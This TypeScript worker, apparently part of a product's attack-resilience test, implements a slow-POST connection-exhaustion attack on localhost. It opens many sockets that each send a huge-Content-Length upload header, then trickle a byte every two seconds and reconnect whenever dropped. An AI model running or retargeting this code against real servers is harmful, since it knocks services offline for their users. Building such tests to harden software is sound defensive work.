// Who only holds connections: begins uploads and sends a byte now and then, and begins anew when sent away.
import { connect, type Socket } from 'node:net'
import { constants, setPriority } from 'node:os'

export interface DribbleOrder {
  port: number
  /** Addresses of this machine that it calls from. */
  from: string[]
  count: number
}
export interface DribbleReport {
  /** Open now, and the most that were. */
  open: number
  most: number
  /** Ended by the other side. */
  ended: number
  /** Could not be opened. */
  failed: number
}

const BYTE_MS = 2000
const AGAIN_MS = 1000
/** Opened in one go, so that the machine can keep up with itself. */
const AT_ONCE = 200
const HEAD = `POST /api/Fiscan/Import HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 900000000\r\n\r\n`

// In life the attacker has machines of its own: here it takes what the product and the class leave of this one.
setPriority(constants.priority.PRIORITY_LOW)

const open = new Set<Socket>()
let wanted: DribbleOrder | null = null
let most = 0
let ended = 0
let failed = 0
let turn = 0

function begin({ port, from }: DribbleOrder): void {
  const localAddress = from[turn++ % from.length] ?? '127.0.0.1'
  let isThere = false
  const socket = connect({ host: '127.0.0.1', port, localAddress })
  open.add(socket)
  socket.on('connect', () => {
    isThere = true
    most = Math.max(most, open.size)
    socket.write(HEAD)
  })
  socket.on('error', () => undefined)
  socket.on('close', () => {
    open.delete(socket)
    if (isThere) ended++
    else failed++
  })
  socket.resume()
}

setInterval(() => {
  for (const socket of open) if (socket.writable) socket.write('x')
}, BYTE_MS)
setInterval(() => {
  if (!wanted) return
  for (let i = 0; i < AT_ONCE && open.size < wanted.count; i++) begin(wanted)
}, AGAIN_MS / 10)

process.on('message', (order: DribbleOrder | 'stop' | 'tell') => {
  if (order === 'tell') return void process.send?.({ open: open.size, most, ended, failed } satisfies DribbleReport)
  wanted = order === 'stop' ? null : order
  if (order === 'stop') for (const socket of open) socket.destroy()
})
process.on('disconnect', () => process.exit(0))
